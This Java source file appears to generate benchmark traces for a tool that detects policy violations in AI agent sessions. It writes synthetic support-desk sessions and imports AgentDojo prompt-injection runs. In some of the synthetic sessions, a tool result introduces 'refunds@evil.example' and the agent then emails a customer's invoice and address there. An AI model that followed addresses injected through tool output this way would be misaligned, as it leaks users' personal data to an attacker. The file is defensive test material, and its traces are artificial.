package dev.tracegate.bench;

import dev.tracegate.contracts.library.Library;
import dev.tracegate.contracts.library.LibraryReader;
import dev.tracegate.contracts.library.LibrarySpec;
import dev.tracegate.matchers.event.Event;
import dev.tracegate.matchers.imports.AgentDojoImporter;
import dev.tracegate.matchers.trace.TraceWriter;

import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

/**
 * The JSONL traces of the offline-replay benchmarks, written at setup time (none is committed):
 * {@code small}, generated support-desk sessions of small events (a 120-character user message, calls
 * of 2 or 3 short arguments, results under 200 bytes), some of which follow an address that only a
 * tool result introduced; and {@code agentdojo}, every recorded run of the AgentDojo dataset imported
 * with the matchers' {@link AgentDojoImporter} (tool results of kilobytes). Also the libraries they
 * are replayed against: the built-in {@code gdpr} or {@code injection} library with the bench's
 * policy ({@code replay-policy.yaml}: purposes, consent tools, side-effecting tools).
 *
 * <p>Usage (bench/run.sh, for the replay CLI row): {@code java -cp benchmarks.jar dev.tracegate.bench.JsonlTraces
 * --out DIR [--agentdojo DATASET]} writes {@code DIR/small.jsonl}, {@code DIR/agentdojo.jsonl} and {@code DIR/replay-policy.yaml}.
 */
public final class JsonlTraces {
    /** Sessions in the small trace. */
    public static final int SMALL_SESSIONS = 2_000;
    /** Every this many sessions of the small trace, one sends mail to an address only a tool result named. */
    public static final int PLANT_EVERY = 10;
    /** The address a tool result introduces and a planted call sends to. */
    public static final String UNTRUSTED = "refunds@evil.example";
    /** The dataset the {@code agentdojo} trace is imported from, unless {@code -Dbench.agentdojo} names another. */
    public static final String DEFAULT_AGENTDOJO = "/work/shared/datasets/agentdojo";
    /** The bench's policy section file (a class-path resource next to this class). */
    public static final String POLICY = "replay-policy.yaml";

    private JsonlTraces() {}

    /** Writes trace {@code name} ({@code small} or {@code agentdojo}) to {@code dir/<name>.jsonl}; returns the file. */
    public static Path write(String name, Path dir) throws IOException {
        Path file = dir.resolve(name + ".jsonl");
        try (TraceWriter w = TraceWriter.open(file)) {
            switch (name) {
                case "small" -> small(w);
                case "agentdojo" -> agentDojo(w, agentDojoDir());
                default -> throw new IllegalArgumentException("unknown trace '" + name + "'; use small or agentdojo");
            }
        }
        return file;
    }

    /** The AgentDojo dataset directory: {@code -Dbench.agentdojo}, else {@value #DEFAULT_AGENTDOJO}. */
    public static Path agentDojoDir() {
        Path dir = Path.of(System.getProperty("bench.agentdojo", DEFAULT_AGENTDOJO));
        if (!Files.isDirectory(dir.resolve("runs"))) {
            throw new IllegalStateException("no AgentDojo dataset at " + dir + " (expected " + dir.resolve("runs")
                    + "); pass -Dbench.agentdojo=<dataset dir> (with JMH: -jvmArgsAppend -Dbench.agentdojo=...)");
        }
        return dir;
    }

    static void agentDojo(TraceWriter w, Path dataset) throws IOException {
        new AgentDojoImporter(dataset).importAll(w::write);
    }

    /** Whether session {@code i} of the small trace contains the planted call to {@link #UNTRUSTED}. */
    public static boolean planted(int i) { return i % PLANT_EVERY == PLANT_EVERY - 3; }

    /** Events per session of the small trace. */
    public static final int SMALL_SESSION_EVENTS = 24;

    static void small(TraceWriter w) throws IOException {
        for (int i = 0; i < SMALL_SESSIONS; i++) {
            String s = "shop-" + i;
            String customer = "C-" + (10_000 + i);
            String order = "A-" + (20_000 + i);
            String mail = "jane.roe" + i + "@example.com";
            String contact = planted(i) ? UNTRUSTED : "help@shop.example";
            long seq = 0;
            w.write(Event.user(s, seq++, "Hi, this is Jane Roe (" + customer + "). Order " + order
                    + " arrived damaged; please email the invoice to " + mail + "."));
            w.write(Event.call(s, seq++, "lookup_order", "{\"order_id\":\"" + order + "\",\"customer_id\":\"" + customer + "\"}"));
            w.write(Event.returned(s, seq++, "lookup_order", "{\"order_id\":\"" + order + "\",\"status\":\"delivered\",\"customer_id\":\""
                    + customer + "\",\"email\":\"" + mail + "\",\"questions\":\"" + contact + "\"}", false));
            w.write(Event.call(s, seq++, "record_consent", "{\"customer_id\":\"" + customer + "\",\"purpose\":\"marketing\",\"granted\":true}"));
            w.write(Event.returned(s, seq++, "record_consent", "consent recorded", false));
            for (int k = 0; k < 4; k++) {
                w.write(Event.call(s, seq++, "search_kb", "{\"query\":\"refund policy for damaged items\",\"limit\":5,\"lang\":\"en\"}"));
                w.write(Event.returned(s, seq++, "search_kb", "found 3 articles: returns, refunds, damaged goods", false));
                w.write(Event.call(s, seq++, "send_email", "{\"to\":\"" + mail + "\",\"body\":\"Your invoice for " + order + "\"}"));
                w.write(Event.returned(s, seq++, "send_email", "sent", false));
            }
            w.write(Event.call(s, seq++, "send_newsletter", "{\"customer_id\":\"" + customer + "\"}"));
            w.write(Event.returned(s, seq++, "send_newsletter", "queued", false));
            if (planted(i)) {
                w.write(Event.call(s, seq, "send_email", "{\"to\":\"" + UNTRUSTED + "\",\"body\":\"Invoice of " + order + " for " + mail + "\"}"));
            } else {
                w.write(Event.assistant(s, seq, "I have emailed the invoice for " + order + " to you."));
            }
        }
    }

    /** The library {@code name} ({@code gdpr} or {@code injection}) with the bench's policy sections. */
    public static Library library(String name) {
        if (!name.equals("gdpr") && !name.equals("injection")) {
            throw new IllegalArgumentException("unknown replay library '" + name + "'; use gdpr or injection");
        }
        return Library.compile(List.of(Library.read(name, null), policy()));
    }

    static LibrarySpec policy() { return LibraryReader.read("bench:" + POLICY, policyText()); }

    static String policyText() {
        try (InputStream in = JsonlTraces.class.getResourceAsStream(POLICY)) {
            if (in == null) throw new IllegalStateException("resource " + POLICY + " missing next to " + JsonlTraces.class.getName());
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static void main(String[] args) throws Exception {
        Args.main("JsonlTraces", args, JsonlTraces::cli);
    }

    /** The harness; a bad option is refused ({@link Args.BadOption}) before anything is measured. */
    static void cli(String[] args) throws IOException {
        Args a = Args.parse(args, Map.of("out", "", "agentdojo", ""));
        if (a.get("out").isEmpty()) throw new Args.BadOption("--out DIR is required (the directory the trace files are written to)");
        if (!a.get("agentdojo").isEmpty()) {
            // checked before the small trace is written, so that a mistyped path is one line, not a stack trace afterwards
            if (!Files.isDirectory(Path.of(a.get("agentdojo")).resolve("runs"))) {
                throw new Args.BadOption("--agentdojo " + a.get("agentdojo") + " is not an AgentDojo dataset (no runs/ directory"
                        + " in it); give the dataset's directory, or leave --agentdojo out for " + DEFAULT_AGENTDOJO);
            }
            System.setProperty("bench.agentdojo", a.get("agentdojo"));
        }
        Path dir = Files.createDirectories(Path.of(a.get("out")));
        for (String t : new String[] {"small", "agentdojo"}) {
            Path f = write(t, dir);
            System.out.println(f + " " + Files.size(f) + " bytes");
        }
        Files.writeString(dir.resolve(POLICY), policyText(), StandardCharsets.UTF_8);
    }
}
